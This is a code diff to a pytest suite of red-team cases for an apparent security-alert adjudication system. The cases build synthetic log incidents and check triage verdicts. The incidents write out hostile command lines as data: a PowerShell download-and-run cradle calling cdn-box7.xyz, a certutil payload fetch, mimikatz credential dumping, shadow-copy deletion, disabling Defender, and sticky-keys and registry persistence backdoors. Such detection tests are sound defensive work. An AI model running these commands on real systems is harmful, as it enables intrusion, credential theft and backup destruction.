@@ -32,12 +32,13 @@ from support.crafting import (
 from opensoc.adjudication.gate import adjudicate
 from opensoc.rubric import score_incident
 from opensoc.schema import TRIAGE_ACTIONS
-from opensoc.world.inventory import DOMAIN_SID
+from opensoc.world.inventory import DOMAIN_SID, INVENTORY
 
 WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
 PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
 STAGER = encoded("IEX (New-Object Net.WebClient).DownloadString('http://cdn-box7.xyz/a.ps1')")
 TOR = "185.220.101.23"
+VPN = INVENTORY.host("VPN01").ip
 
 
 @dataclass(frozen=True)
@@ -98,7 +99,8 @@ CASES = [
                                              'powershell.exe -c "icm -Comp APP01 -ScriptBlock { hostname }"', executable=PS))),
     _sound("wmic_dash_node", "escalate", lambda: incident(
         "lateral_movement", "escalate", proc(0, "ENG-WS02", "erin.patel", "WMIC.exe",
-                                             'wmic.exe -node:10.20.0.11 process call create "cmd.exe /c hostname"'))),
+                                             'wmic.exe -node:10.20.0.11 process call create "cmd.exe /c hostname"',
+                                             executable="C:\\Windows\\System32\\wbem\\WMIC.exe"))),
     _sound("fqdn_host_name", "quarantine_host", lambda: incident(
         "credential_access", "quarantine_host", access(0, "fin-ws01.corp.example.com", "alice.chen", "x.exe",
                                                        "C:\\Users\\alice.chen\\AppData\\Local\\Temp\\x.exe"))),
@@ -212,39 +214,157 @@ CASES = [
         proc(0, "APP01", "SYSTEM", "powershell.exe", 'powershell.exe -c "Get-Service # IEX DownloadString(http://x.io)"',
              executable=PS),
         http(60, "APP01", "SYSTEM", "13.107.4.50", "download.windowsupdate.com", "/c/u.cab", recv=9_000_000))),
-    # --- just under a threshold: contested, never paid
-    _refused("nine_failures_from_the_internet", "contested", lambda: incident(
-        "password_typo", "dismiss", *[auth(i * 20, "APP01", "dave.kim", "45.133.1.9", "failure") for i in range(9)])),
-    _refused("99mb_upload_to_tor_next_to_heartbeats", "contested", lambda: incident(
+    # --- just under a threshold: nothing explains the activity, so it is refused, never paid
+    _refused("nine_failures_from_the_internet", "implausible", lambda: incident(
+        "password_typo", "dismiss", *[auth(i * 20, "APP01", "dave.kim", "45.133.1.9", "failure") for i in range(9)]),
+        code="UNEXPLAINED_EVENT"),
+    _refused("99mb_upload_to_tor_next_to_heartbeats", "implausible", lambda: incident(
         "telemetry_heartbeat", "dismiss", *[conn(i * 300, "DC01", "34.120.88.21", sent=900) for i in range(4)],
-        conn(1300, "DC01", TOR, sent=99_000_000))),
-    _refused("beacon_with_45pct_jitter", "contested", lambda: incident(
-        "c2_beacon", "quarantine_host", *[conn(t, "SALES-WS02", "66.42.98.17", sent=300) for t in (0, 60, 95, 180, 205, 300)])),
-    _refused("nine_target_scan", "contested", lambda: incident(
+        conn(1300, "DC01", TOR, sent=99_000_000)), code="UNEXPLAINED_EVENT"),
+    _refused("beacon_with_45pct_jitter", "implausible", lambda: incident(
+        "c2_beacon", "quarantine_host", *[conn(t, "SALES-WS02", "66.42.98.17", sent=300) for t in (0, 60, 95, 180, 205, 300)]),
+        code="CATEGORY_NOT_DEPICTED"),
+    _refused("nine_target_scan", "implausible", lambda: incident(
         "port_scan", "block_ip", *[conn(i, "FILE01", "10.20.0.13", 20 + i, src="5.188.86.40", sent=0, recv=0, state="REJ")
                                    for i in range(9)] + [conn(9, "FILE01", "10.20.0.13", 20, src="5.188.86.40", sent=0,
-                                                              recv=0, state="REJ", sport=51001)])),
-    _refused("99_files_renamed", "contested", lambda: incident(
-        "ransomware", "escalate", files(0, "FIN-WS01", "alice.chen", "rename", 99, "svcupd.exe"))),
-    _refused("word_starts_notepad", "contested", lambda: incident(
-        "malware_execution", "quarantine_host", proc(0, "FIN-WS01", "alice.chen", "notepad.exe", "notepad.exe", parent=WORD))),
-    _refused("lone_external_smb_logon", "contested", lambda: incident(
-        "lateral_movement", "escalate", auth(0, "APP01", "dave.kim", "45.133.1.9", "success"))),
+                                                              recv=0, state="REJ", sport=51001)]),
+        code="CATEGORY_NOT_DEPICTED"),
+    _refused("99_files_renamed", "implausible", lambda: incident(
+        "ransomware", "escalate", files(0, "FIN-WS01", "alice.chen", "rename", 99, "svcupd.exe")), code="UNEXPLAINED_EVENT"),
+    _refused("word_starts_notepad", "implausible", lambda: incident(
+        "malware_execution", "quarantine_host", proc(0, "FIN-WS01", "alice.chen", "notepad.exe", "notepad.exe", parent=WORD)),
+        code="CATEGORY_NOT_DEPICTED"),
+    _refused("lone_external_smb_logon", "implausible", lambda: incident(
+        "lateral_movement", "escalate", auth(0, "APP01", "dave.kim", "45.133.1.9", "success")), code="UNEXPLAINED_EVENT"),
+    # --- explained as ordinary, yet an independent rule flags it: contested, never paid
+    _refused("benign_encoded_command_on_a_workstation", "contested", lambda: incident(
+        "software_update", "dismiss",
+        proc(0, "FIN-WS01", "alice.chen", "powershell.exe", f"powershell.exe -NoProfile -EncodedCommand {encoded('Get-Date')}",
+             executable=PS),
+        http(60, "FIN-WS01", "SYSTEM", "13.107.4.50", "download.windowsupdate.com", "/c/u.cab", recv=9_000_000))),
+    # --- the world's own benign services: the analyst's dismiss is the verdict
+    _sound("vpn_gateway_logon_burst", "dismiss", lambda: incident(
+        "admin_remote_tooling", "dismiss", *[auth(i * 30, host, user, VPN, "success") for i, (host, user) in enumerate(
+            [("FILE01", "alice.chen"), ("APP01", "bob.martin"), ("FILE01", "carol.diaz"), ("APP01", "dave.kim"),
+             ("FILE01", "erin.patel"), ("APP01", "frank.osei"), ("FILE01", "grace.lee"), ("APP01", "henry.nguyen"),
+             ("FILE01", "laura.white"), ("APP01", "nina.schultz"), ("FILE01", "kevin.brown"), ("APP01", "julia.santos")])])),
+    _sound("ntp_to_the_time_server", "dismiss", lambda: incident(
+        "telemetry_heartbeat", "dismiss", *[conn(i * 64, "FIN-WS01", "168.61.215.74", 123, sent=48, recv=48) | {
+            "network.transport": "udp", "network.protocol": "ntp"} for i in range(8)])),
+    _sound("mail_relay_blocklist_lookups", "dismiss", lambda: incident(
+        "telemetry_heartbeat", "dismiss", *[dns(i * 3, "MAIL01", f"{i}.{200 - i}.113.203.zen.spamhaus.org", "A")
+                                            for i in range(30)])),
+    _sound("stale_service_password", "dismiss", lambda: incident(
+        "password_typo", "dismiss", *[auth(i * 60, "FILE01", "svc_backup", INVENTORY.host("BKP01").ip, "failure")
+                                      for i in range(15)])),
+    _sound("git_checkout_rewrites_a_repository", "dismiss", lambda: incident(
+        "software_update", "dismiss", files(0, "ENG-WS01", "dave.kim", "modification", 900, "git.exe",
+                                            path="C:\\Users\\dave.kim\\source\\repos\\billing\\*", ext=".cs"))),
+    _sound("management_agent_encoded_command", "dismiss", lambda: incident(
+        "software_update", "dismiss",
+        proc(0, "FIN-WS01", "SYSTEM", "powershell.exe",
+             f"powershell.exe -NoProfile -EncodedCommand {encoded('Get-Service -Name CcmExec | Restart-Service')}",
+             executable=PS, parent="CcmExec.exe"))),
+    _sound("backup_retention", "dismiss", lambda: incident(
+        "scheduled_backup", "dismiss", proc(0, "BKP01", "svc_backup", "wbadmin.exe",
+                                            "wbadmin.exe delete backup -keepVersions:14 -quiet", parent="svchost.exe"))),
+    _sound("malicious_software_removal_tool_reads_lsass", "dismiss", lambda: incident(
+        "telemetry_heartbeat", "dismiss", access(0, "FIN-WS02", "SYSTEM", "MRT.exe", "C:\\Windows\\System32\\MRT.exe"))),
+    # --- nonsense the world's physics refuses
+    _refused("bytes_on_a_sysmon_network_event", "implausible", lambda: incident(
+        "data_exfiltration", "escalate", conn(0, "FILE01", TOR, sent=500_000_000) | {"source": "sysmon",
+                                                                                      "zeek.connection.state": None}),
+        verdict="escalate", code="SOURCE_FIELDS"),
+    _refused("dns_label_of_70", "implausible", lambda: incident(
+        "data_exfiltration", "escalate", *[dns(i, "FIN-WS01", f"{'a' * 70}{i}.exfil-box.xyz") for i in range(40)]),
+        verdict="escalate", code="INVALID_NAME"),
+    _refused("ipv4_to_ipv6_flow", "implausible", lambda: incident(
+        "data_exfiltration", "escalate", conn(0, "FILE01", "2606:4700::6810:1", sent=500_000_000)),
+        verdict="escalate", code="ADDRESS_FAMILY"),
+    _refused("system_into_domain_admins", "implausible", lambda: incident(
+        "privilege_escalation", "escalate", group_add(0, "bob.martin", "SYSTEM", "Domain Admins")),
+        verdict="escalate", code="BUILTIN_IN_DOMAIN_GROUP"),
+    _refused("connect_to_a_file_path", "implausible", lambda: incident(
+        "data_exfiltration", "escalate", http(0, "FILE01", "SYSTEM", TOR, "relay.exfil-box.xyz", "/etc/shadow",
+                                              method="CONNECT", sent=500_000_000)), verdict="escalate", code="HTTP_FORM"),
+    _refused("unknown_tool", "implausible", lambda: incident(
+        "malware_execution", "quarantine_host", proc(0, "FIN-WS01", "alice.chen", "zzqdump.exe", "zzqdump.exe --all")),
+        code="UNKNOWN_PROGRAM"),
+    _refused("unknown_form_of_a_lolbin", "implausible", lambda: incident(
+        "malware_execution", "quarantine_host", proc(0, "FIN-WS01", "alice.chen", "bcdedit.exe",
+                                                     "bcdedit.exe /set {default} safeboot minimal")),
+        code="UNKNOWN_FORM"),
+    _refused("wmi_event_consumer", "implausible", lambda: incident(
+        "malware_execution", "quarantine_host", proc(
+            0, "FIN-WS01", "SYSTEM", "WMIC.exe", 'wmic.exe /namespace:\\\\root\\subscription path '
+            'CommandLineEventConsumer create Name="u" CommandLineTemplate="C:\\Users\\Public\\u.exe"',
+            executable="C:\\Windows\\System32\\wbem\\WMIC.exe")), code="UNKNOWN_FORM"),
+    _refused("word_drops_a_shortcut_into_startup", "implausible", lambda: incident(
+        "software_update", "dismiss", files(0, "FIN-WS01", "alice.chen", "creation", 1, "WINWORD.EXE",
+                                            path="C:\\Users\\alice.chen\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu"
+                                                 "\\Programs\\Startup\\update.lnk", ext=".lnk"),
+        http(60, "FIN-WS01", "SYSTEM", "13.107.4.50", "download.windowsupdate.com", "/c/u.cab", recv=9_000_000)),
+        code="UNEXPLAINED_EVENT"),
+    _refused("file_association_hijack", "implausible", lambda: incident(
+        "malware_execution", "quarantine_host", proc(0, "FIN-WS01", "SYSTEM", "cmd.exe",
+                                                     "cmd.exe /c ftype txtfile=C:\\Users\\Public\\u.exe %1")),
+        code="UNKNOWN_FORM"),
+    _refused("sticky_keys_replaced_by_cmd", "implausible", lambda: incident(
+        "malware_execution", "quarantine_host", proc(
+            0, "FIN-WS01", "SYSTEM", "cmd.exe",
+            "cmd.exe /c copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe")),
+        code="UNKNOWN_FORM"),
+    # --- attacks in the forms real logs write them: read and convicted
+    _sound("run_key_starts_a_cradle", "quarantine_host", lambda: incident(
+        "malware_execution", "quarantine_host", reg(
+            0, "FIN-WS01", "alice.chen", "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater",
+            "powershell.exe -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://cdn-box7.xyz/a.ps1')\"",
+            process="reg.exe"))),
+    _sound("ifeo_debugger_on_sethc", "quarantine_host", lambda: incident(
+        "malware_execution", "quarantine_host", reg(
+            0, "FIN-WS01", "SYSTEM", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution "
+            "Options\\sethc.exe\\Debugger", "C:\\Windows\\System32\\cmd.exe", process="reg.exe"))),
+    _sound("scheduled_task_runs_a_user_writable_program", "quarantine_host", lambda: incident(
+        "malware_execution", "quarantine_host", proc(
+            0, "FIN-WS01", "alice.chen", "schtasks.exe",
+            'schtasks.exe /create /tn Updater /tr "C:\\Users\\Public\\svcupd.exe" /sc onlogon', parent="cmd.exe"))),
+    _sound("renamed_mimikatz", "quarantine_host", lambda: incident(
+        "malware_execution", "quarantine_host", proc(0, "FIN-WS01", "alice.chen", "notes.exe",
+                                                     "notes.exe privilege::debug sekurlsa::logonpasswords exit",
+                                                     executable="C:\\Users\\alice.chen\\Downloads\\notes.exe",
+                                                     original="mimikatz.exe"))),
+    _sound("vssadmin_behind_cmd_if", "escalate", lambda: incident(
+        "ransomware", "escalate", proc(0, "APP01", "SYSTEM", "cmd.exe", "cmd.exe /c if 1==1 vssadmin delete shadows /all /quiet"))),
+    _sound("vssadmin_behind_powershell_concatenation", "escalate", lambda: incident(
+        "ransomware", "escalate", proc(0, "APP01", "SYSTEM", "powershell.exe",
+                                       "powershell.exe -c \"& ('vss'+'admin') delete shadows /all /quiet\"", executable=PS))),
+    _sound("url_with_trusted_userinfo", "quarantine_host", lambda: incident(
+        "malware_execution", "quarantine_host", proc(
+            0, "FIN-WS01", "alice.chen", "certutil.exe",
+            "certutil.exe -urlcache -f https://login.microsoftonline.com@cdn-box7.xyz/a.exe C:\\Users\\Public\\a.exe"))),
+    _sound("defender_switched_off", "quarantine_host", lambda: incident(
+        "malware_execution", "quarantine_host", proc(0, "FIN-WS01", "SYSTEM", "powershell.exe",
+                                                     "powershell.exe -c \"Set-MpPreference -DisableRealtimeMonitoring $true\"",
+                                                     executable=PS))),
     # --- a real attack claimed as benign: the blind-spot farm is closed
-    _refused("attack_claimed_benign", "mislabelled", lambda: incident(
+    _refused("attack_claimed_benign", "implausible", lambda: incident(
         "malware_execution", "malicious", proc(0, "FIN-WS01", "alice.chen", "notepad.exe", "notepad.exe x.txt")),
-        code=None),
+        code="CATEGORY_NOT_DEPICTED"),
     _refused("macro_claimed_as_monitor", "mislabelled", lambda: incident(
         "malware_execution", "monitor", proc(0, "FIN-WS01", "alice.chen", "cmd.exe", "cmd.exe /c whoami", parent=WORD)),
         verdict="quarantine_host"),
 ]
 
 
+_UNREAD = {"UNMODELLED_VALUE", "UNKNOWN_PROGRAM", "UNKNOWN_FORM"}
+
+
 @pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
 def test_red_team_case(case: Case):
     params = case.build()
     review = adjudicate(params)
-    assert review.truth.action == case.verdict, (review.truth.deciding_rule_ids, review.plausibility.violations)
+    if case.code not in _UNREAD:  # a craft refused for what cannot be read has no verdict to check
+        assert review.truth.action == case.verdict, (review.truth.deciding_rule_ids, review.plausibility.violations)
     assert review.outcome == case.unsound, (review.plausibility.violations, review.contested_by)
     if case.code:
         assert case.code in [v.code for v in review.plausibility.violations]
